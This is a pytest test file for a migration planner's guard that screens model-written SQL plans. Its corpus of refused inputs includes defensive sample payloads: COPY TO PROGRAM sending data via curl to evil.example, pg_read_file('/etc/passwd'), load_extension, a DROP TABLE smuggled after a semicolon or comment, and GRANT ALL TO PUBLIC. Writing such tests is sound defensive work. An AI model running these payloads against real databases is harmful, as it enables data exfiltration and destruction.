"""The planner's guard (dbbasic/planner/guard.py): what a model's answer must be to become plan steps.

A corpus of hostile or broken answers, each refused with the reason that names its step and what to do
instead; valid answers accepted on both dialects, applied to a real database with rows in it, and rolled back.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from conftest import write_project
from dumps import dump
from patterns.pattern_cases import apply, database, dialect_of, exact_rows, rollback

from dbbasic import api
from dbbasic.generators.schema import compile_data_model
from dbbasic.plan.model import BatchedStep, CheckStep, DdlStep, OnlineDdlStep, Plan
from dbbasic.planner.guard import Verdict, answer_schema, check_answer
from dbbasic.specs.model import DataModel, Source
from dbbasic.sql.dialect import Dialect

DATA = """
data:
  users:
    fields:
      id: id
      name: {type: text, required: true}
      email: email
  todos:
    fields:
      id: id
      user_id: {ref: users, on_delete: cascade}
      title: {type: text, required: true}
"""

# The avatars task of DESIGN.md, as a model would answer it: a column, a batched backfill reading the
# column the first step adds, and a check of the result.
AVATARS: dict[str, Any] = {"steps": [
    {"description": "a column for the avatar's initials",
     "sql": "ALTER TABLE users ADD COLUMN initials text", "down": "ALTER TABLE users DROP COLUMN initials"},
    {"description": "initials from the name",
     "batched": "UPDATE users SET initials = upper(substr(name, 1, 1)) WHERE id > %(after)s AND id <= %(upto)s",
     "table": "users", "key": "id", "down": "UPDATE users SET initials = NULL WHERE initials IS NOT NULL"},
    {"check": "SELECT count(*) FROM users WHERE initials IS NULL", "expect": 0},
]}


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> DataModel:
    root = write_project(tmp_path_factory.mktemp("guard"), {
        "specs/dbbasic.yaml": "project:\n  dialects: [postgres, sqlite]\n", "specs/data.yaml": DATA})
    validation = api.validate(root)
    assert validation.specs is not None, validation.problems
    return validation.specs.data


def guard(answer: Any, model: DataModel, dialect: str = "postgres", **options: Any) -> Verdict:
    text = answer if isinstance(answer, str) else json.dumps(answer)
    return check_answer(text, model=model, dialect=Dialect.get(dialect), **options)


def sql(*statements: str | list[str], **keys: Any) -> dict[str, Any]:
    """An answer of one `sql` step per argument."""
    return {"steps": [{"sql": s, **keys} for s in statements]}


# (case, answer (JSON text, or a value to write as JSON), dialect, how the expected reason starts)
HOSTILE: list[tuple[str, Any, str, str]] = [
    ("invalid JSON", '{"steps": [{"sql": "UPDATE users SET name = 1 WHERE id = 1"}', "postgres",
     "answer: it is not JSON (Expecting ',' delimiter at line 1, column 61); "
     'answer with one JSON object: {"steps": [...]}'),
    ("prose around the JSON", 'Sure! Here is the plan: {"steps": []}', "postgres",
     "answer: it is not JSON (Expecting value at line 1, column 1)"),
    ("a list, not an object", [], "postgres", "answer: 'the answer' must be a mapping, not a list"),
    ("no steps key", {"plan": []}, "postgres", "answer: unknown key 'plan' in the answer"),
    ("a misspelt step key", {"steps": [{"sqll": "SELECT 1"}]}, "postgres",
     "step 1: unknown key 'sqll' in step 1; did you mean 'sql'?"),
    ("a wrong type", {"steps": [{"check": "SELECT 1", "expect": 1, "batch_rows": "many"}]}, "postgres",
     "step 1: 'batch_rows' must be a whole number, not a string"),
    ("two kinds in one step", {"steps": [{"sql": "SELECT 1", "check": "SELECT 1"}]}, "postgres",
     "step 1: a step needs exactly one of sql, batched, check, manual (found sql, check)"),
    ("a copy step", {"steps": [{"copy": {"table": "users", "key": "id"}}]}, "postgres",
     "step 1: unknown key 'copy' in step 1"),
    ("DROP TABLE", sql("DROP TABLE todos"), "postgres",
     "step 1 (sql): it drops table todos, which cannot be brought back; add a column or table instead, or "
     "leave the drop to a person in a `manual` step (only a spec with `allow_destructive: true` accepts it)"),
    ("DROP COLUMN", sql("ALTER TABLE users DROP COLUMN email"), "sqlite",
     "step 1 (sql): it drops column email of users, which cannot be brought back"),
    ("DROP INDEX", sql("DROP INDEX users_email"), "postgres",
     "step 1 (sql): it drops index users_email, which the planner does not do unasked; add a column or table "
     "instead, or leave the drop to a person in a `manual` step (only a spec with `allow_destructive: true` "
     "accepts it)"),
    ("TRUNCATE", sql("TRUNCATE todos"), "postgres", "step 1 (sql): it empties the table, which cannot be brought back"),
    ("DELETE without WHERE", sql("DELETE FROM todos"), "sqlite",
     "step 1 (sql): it deletes every row, which cannot be brought back; add a WHERE that selects the rows to change"),
    ("UPDATE without WHERE", sql("UPDATE users SET name = 'x'"), "postgres",
     "step 1 (sql): it updates every row, which cannot be brought back; add a WHERE that selects the rows to change"),
    ("a second statement after ;", sql("UPDATE users SET name = 'x' WHERE id = 1; DROP TABLE users"), "postgres",
     "step 1 (sql): it holds 2 statements (something follows a `;`); write one statement per list item"),
    ("a statement in a line comment", sql("UPDATE users SET name = 'x' WHERE id = 1 -- ; DROP TABLE users"),
     "sqlite", "step 1 (sql): it holds a comment, where a second statement could hide; put explanations in the "
               "step's `description`"),
    ("a statement in a block comment", {"steps": [{"check": "SELECT count(*) /* ; DROP TABLE users */ FROM users",
                                                   "expect": 0}]},
     "postgres", "step 1 (check): it holds a comment, where a second statement could hide"),
    ("a table of another schema", sql("UPDATE public.users SET name = 'PWNED' WHERE id > 0"), "postgres",
     "step 1 (sql): table public.users is qualified with a schema or database; write table names unqualified"),
    ("a table of an attached database", sql("DELETE FROM main.users WHERE id = 1"), "sqlite",
     "step 1 (sql): table main.users is qualified with a schema or database"),
    ("an unknown table", sql("UPDATE accounts SET name = 'x' WHERE id = 1"), "postgres",
     "step 1 (sql): table accounts is not in the data model and no earlier step creates it; "
     "use one of: todos, users"),
    ("an unknown column", sql("UPDATE users SET avatar = 'x' WHERE id = 1"), "sqlite",
     "step 1 (sql): column avatar is not in users (in the data model or after the earlier steps); "
     "use one of: email, id, name, or add it in an earlier `sql` step"),
    ("an unknown qualified column", {"steps": [{"check": "SELECT count(*) FROM todos t JOIN users u ON "
                                                         "u.id = t.owner_id", "expect": 0}]},
     "postgres", "step 1 (check): column owner_id is not in todos"),
    ("an unknown column in an INSERT list", sql("INSERT INTO todos (user_id, body) VALUES (1, 'x')"), "postgres",
     "step 1 (sql): column body is not in todos"),
    ("a column used before the step that adds it",
     {"steps": [AVATARS["steps"][1], AVATARS["steps"][0]]}, "postgres",
     "step 1 (batched): column initials is not in users"),
    ("SQL for the wrong dialect (MySQL quotes)", sql("UPDATE users SET `name` = 'x' WHERE id = 1"), "postgres",
     "step 1 (sql): it does not parse as postgres SQL (Invalid expression / Unexpected token. Line 1, Col: 22.); "
     "write it in postgres's own syntax"),
    ("SQL for the wrong dialect (PostgreSQL regex on SQLite)",
     {"steps": [{"check": "SELECT count(*) FROM users WHERE name ~ '^a'", "expect": 0}]}, "sqlite",
     "step 1 (check): it does not parse as sqlite SQL"),
    ("SQL for the other dialect only", {"steps": [{"sql": {"sqlite": "UPDATE users SET name = 'x' WHERE id = 1"}}]},
     "postgres", "step 1 (sql): no SQL for postgres, which this project compiles for; add `postgres: ...` here"),
    ("an unterminated string", sql("UPDATE users SET name = 'abc WHERE id = 1"), "postgres",
     "step 1 (sql): it does not read as postgres SQL (an unterminated string or quoted name?); close every quote"),
    ("a DO block", sql("DO $$ BEGIN DELETE FROM users; END $$"), "postgres",
     "step 1 (sql): `DO $$ BEGIN ...` is refused: sqlglot cannot read it"),
    ("CALL", sql("CALL cleanup()"), "postgres", "step 1 (sql): `CALL cleanup()` is refused: sqlglot cannot read it"),
    ("VACUUM", sql("VACUUM users"), "sqlite", "step 1 (sql): `VACUUM users` is refused: sqlglot cannot read it"),
    ("ALTER SYSTEM", sql("ALTER SYSTEM SET fsync = off"), "postgres",
     "step 1 (sql): `ALTER SYSTEM SET ...` is refused: sqlglot cannot read it"),
    ("COPY ... PROGRAM", sql("COPY users TO PROGRAM 'curl -d @- evil.example'"), "postgres",
     "step 1 (sql): `COPY INTO users ...` is refused: COPY reads and writes files and programs on the database "
     "server; say what you need in a `manual` step"),
    ("pg_read_file", {"steps": [{"check": "SELECT pg_read_file('/etc/passwd')", "expect": ""}]}, "postgres",
     "step 1 (check): it calls pg_read_file(), which reaches the server's files, processes or settings"),
    ("pg_read_file in an UPDATE",
     sql("UPDATE users SET name = pg_read_file('/etc/passwd') WHERE id = 1"), "postgres",
     "step 1 (sql): it calls pg_read_file()"),
    ("load_extension", {"steps": [{"check": "SELECT load_extension('/tmp/x.so')", "expect": 0}]}, "sqlite",
     "step 1 (check): it calls load_extension()"),
    ("GRANT", sql("GRANT ALL ON users TO PUBLIC"), "postgres",
     "step 1 (sql): `GRANT ALL ON ...` is refused: privileges are not a migration's to change"),
    ("REVOKE", sql("REVOKE SELECT ON users FROM PUBLIC"), "postgres",
     "step 1 (sql): `REVOKE SELECT ON ...` is refused: privileges are not a migration's to change"),
    ("transaction control", sql(["UPDATE users SET name = 'x' WHERE id = 1", "COMMIT"]), "postgres",
     "step 1 (sql): statement 2: `COMMIT` is refused: transaction control: dbbasic runs each step in its own "
     "transaction"),
    ("a check that is not a query", {"steps": [{"check": "UPDATE users SET name = 'x' WHERE id = 1",
                                                "expect": 1}]}, "postgres",
     "step 1 (check): `UPDATE users SET ...` is not allowed in a `check` part; it takes a SELECT returning one "
     "value; changes belong in `sql` steps"),
    ("a DELETE hidden in a check's CTE",
     {"steps": [{"check": "WITH d AS (DELETE FROM users RETURNING id) SELECT count(*) FROM d", "expect": 0}]},
     "postgres", "step 1 (check): a `DELETE FROM users ...` is nested inside the statement"),
    ("a function", sql("CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql"), "postgres",
     "step 1 (sql): `CREATE FUNCTION f() ...` is not allowed in a `sql` part"),
    ("a batched DELETE", {"steps": [{"batched": "DELETE FROM todos WHERE id > %(after)s AND id <= %(upto)s",
                                     "table": "todos", "key": "id"}]}, "postgres",
     "step 1 (batched): `DELETE FROM todos ...` is not allowed in a `batched` part; it takes UPDATE or INSERT"),
    ("a batched UPDATE without bounds", {"steps": [{"batched": "UPDATE users SET name = 'x' WHERE id > 0",
                                                    "table": "users", "key": "id"}]}, "sqlite",
     "step 1 (batched): a batched statement must use both %(after)s and %(upto)s; "
     "add `WHERE id > %(after)s AND id <= %(upto)s`"),
    ("a check without expect", {"steps": [{"check": "SELECT count(*) FROM users"}]}, "postgres",
     "step 1 (check): a check step needs `expect:`"),
    ("a down that drops what the step did not make",
     sql("UPDATE users SET name = 'x' WHERE id = 1", down="DROP TABLE users"), "postgres",
     "step 1 (sql): down statement 1: it drops table users, which cannot be brought back"),
    ("a lint error: NOT NULL without a default", sql("ALTER TABLE users ADD COLUMN age integer NOT NULL",
                                                     down="ALTER TABLE users DROP COLUMN age"), "postgres",
     "step 1 (sql): adding `age` NOT NULL without a default fails as soon as `users` has a row: the rows already "
     "there have no value for it; give it a constant DEFAULT, or add it nullable, fill it in a batched step, then "
     "make it NOT NULL [adding-required-field]"),
    ("a repeated key", '{"steps": [{"sql": "SELECT 1", "sql": "DROP TABLE users"}]}', "postgres",
     "answer: the key 'sql' appears twice in one object; write each key once"),
    ("NaN", '{"steps": [{"check": "SELECT 1", "expect": NaN}]}', "postgres",
     "answer: NaN is not a JSON value; write a number"),
    ("a schema-qualified pg_read_file", sql("UPDATE users SET name = pg_catalog.pg_read_file('x') WHERE id = 1"),
     "postgres", "step 1 (sql): it calls pg_read_file()"),
    ("SQLite's readfile", sql("UPDATE users SET name = readfile('/etc/passwd') WHERE id = 1"), "sqlite",
     "step 1 (sql): it calls readfile()"),
    ("a system catalog", {"steps": [{"check": "SELECT count(*) FROM pg_catalog.pg_authid", "expect": 0}]},
     "postgres", "step 1 (check): table pg_catalog.pg_authid is qualified with a schema or database"),
    ("ATTACH", sql("ATTACH DATABASE '/tmp/x.db' AS x"), "sqlite",
     "step 1 (sql): `ATTACH '/tmp/x.db' AS ...` is not allowed in a `sql` part"),
    ("PRAGMA", sql("PRAGMA writable_schema = 1"), "sqlite",
     "step 1 (sql): `PRAGMA writable_schema = ...` is not allowed in a `sql` part"),
    ("SET", sql("SET search_path = evil"), "postgres", "step 1 (sql): `SET search_path = ...` is not allowed"),
    ("two steps with one id", {"steps": [{"id": "a", "manual": "tell support"}, {"id": "a", "manual": "wait"}]},
     "postgres", "step 2 (manual): its id 'a' is the id of step 1; give each step its own id, or none"),
]


@pytest.mark.parametrize(("answer", "dialect", "reason"), [c[1:] for c in HOSTILE], ids=[c[0] for c in HOSTILE])
def test_hostile_or_broken_answers_are_refused_with_the_reason(model: DataModel, answer: Any,
                                                                 dialect: str, reason: str) -> None:
    verdict = guard(answer, model, dialect)
    assert not verdict.accepted
    assert verdict.steps == ()
    assert any(r.startswith(reason) for r in verdict.reasons), verdict.reasons
    assert all(r.startswith(("step ", "answer: ")) for r in verdict.reasons), verdict.reasons


def test_the_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 25


def test_a_lint_error_refuses_with_the_rule_and_its_help(model: DataModel) -> None:
    verdict = guard(sql("ALTER TABLE users ADD COLUMN age integer NOT NULL",
                        down="ALTER TABLE users DROP COLUMN age"), model)
    assert [r.rsplit(" [", 1)[1] for r in verdict.reasons] == ["adding-required-field]"]


def test_every_broken_step_is_reported_at_once(model: DataModel) -> None:
    verdict = guard({"steps": [{"sql": "DROP TABLE todos"}, {"manual": "tell support"},
                               {"check": "SELECT count(*) FROM nowhere", "expect": 0}]}, model)
    assert [r.split(":")[0] for r in verdict.reasons] == ["step 1 (sql)", "step 3 (check)"]


@pytest.mark.parametrize("dialect", ["postgres", "sqlite"])
def test_the_avatars_answer_is_accepted_as_plan_steps(model: DataModel, dialect: str) -> None:
    verdict = guard(AVATARS, model, dialect)
    assert verdict.accepted, verdict.reasons
    assert verdict.reasons == () and verdict.destructive == ()
    add, backfill, check = verdict.steps
    assert isinstance(add, DdlStep) and add.up == ("ALTER TABLE users ADD COLUMN initials text",)
    assert add.down == ("ALTER TABLE users DROP COLUMN initials",)
    assert isinstance(backfill, BatchedStep) and (backfill.id, backfill.table, backfill.key) == ("2-batched", "users",
                                                                                                 "id")
    assert isinstance(check, CheckStep) and (check.sql, check.expect) == (AVATARS["steps"][2]["check"], 0)


def test_sql_written_per_dialect_is_read_for_the_target_only(model: DataModel) -> None:
    answer: dict[str, Any] = {"steps": [{"sql": {"postgres": "CREATE INDEX CONCURRENTLY todos_title ON todos (title)",
                                 "sqlite": "CREATE INDEX todos_title ON todos (title)"},
                         "down": {"postgres": "DROP INDEX CONCURRENTLY todos_title", "sqlite": "DROP INDEX todos_title"},
                         "transactional": False}]}
    for dialect in ("postgres", "sqlite"):
        [step] = guard(answer, model, dialect).steps
        assert isinstance(step, OnlineDdlStep) and step.up == (answer["steps"][0]["sql"][dialect],)


def test_a_table_created_by_an_earlier_step_can_be_filled_and_read(model: DataModel) -> None:
    verdict = guard({"steps": [
        {"sql": "CREATE TABLE palettes (id bigint PRIMARY KEY, colour text NOT NULL)", "down": "DROP TABLE palettes"},
        {"sql": "INSERT INTO palettes (id, colour) VALUES (1, '#336699')", "down": "DELETE FROM palettes WHERE id = 1"},
        {"check": "SELECT count(*) FROM palettes p JOIN users u ON u.id = p.id WHERE p.colour IS NULL", "expect": 0},
    ]}, model, "postgres")
    assert verdict.accepted, verdict.reasons
    assert [s.id for s in verdict.steps] == ["1-sql", "2-sql", "3-check"]


def test_destructive_steps_are_accepted_only_when_allowed_and_then_listed(model: DataModel) -> None:
    answer = sql("ALTER TABLE users DROP COLUMN email", "DELETE FROM todos")
    assert not guard(answer, model).accepted
    verdict = guard(answer, model, allow_destructive=True)
    assert verdict.accepted, verdict.reasons
    assert verdict.destructive == ("step 1: ALTER TABLE users DROP COLUMN email (drops column email of users)",
                                   "step 2: DELETE FROM todos (deletes every row)")


def test_privileges_and_server_access_stay_refused_when_destruction_is_allowed(model: DataModel) -> None:
    verdict = guard(sql("GRANT ALL ON users TO PUBLIC"), model, allow_destructive=True)
    assert verdict.reasons[0].startswith("step 1 (sql): `GRANT ALL ON ...` is refused")


def test_the_answer_schema_is_the_migration_step_schema_without_copy() -> None:
    schema = answer_schema()
    assert schema["required"] == ["steps"]
    assert "copy" not in schema["$defs"]["step"]["properties"]
    assert {"sql", "batched", "check", "manual", "down"} <= set(schema["$defs"]["step"]["properties"])


def test_an_accepted_answer_applies_and_rolls_back(model: DataModel, db_url: str, tmp_path: Path) -> None:
    dialect = Dialect.get(dialect_of(db_url))
    verdict = guard(AVATARS, model, dialect.name)
    assert verdict.accepted, verdict.reasons
    schema = compile_data_model(model, dialect)
    assert schema is not None
    plan = Plan("planner/avatars", "Add avatars to users", dialect.name, Source("specs/avatars.yaml", 1, "0" * 64),
                "planner", 1, verdict.steps)
    with database(db_url, tmp_path) as db:
        apply(db, schema)
        with db.transaction():
            for name in ("ana", "bob", "émile"):
                db.execute("INSERT INTO users (name) VALUES (%(name)s)", {"name": name})
            db.execute("INSERT INTO todos (user_id, title) VALUES (2, 'write')")
        before, rows_before = dump(db_url, schema_only=True), exact_rows(db, "users")
        apply(db, plan)
        assert db.query("SELECT name, initials FROM users ORDER BY id") == [("ana", "A"), ("bob", "B"),
                                                                            ("émile", "É" if dialect.name == "postgres"
                                                                             else "é")]
        rollback(db, plan)
        assert dump(db_url, schema_only=True) == before
        assert exact_rows(db, "users") == rows_before
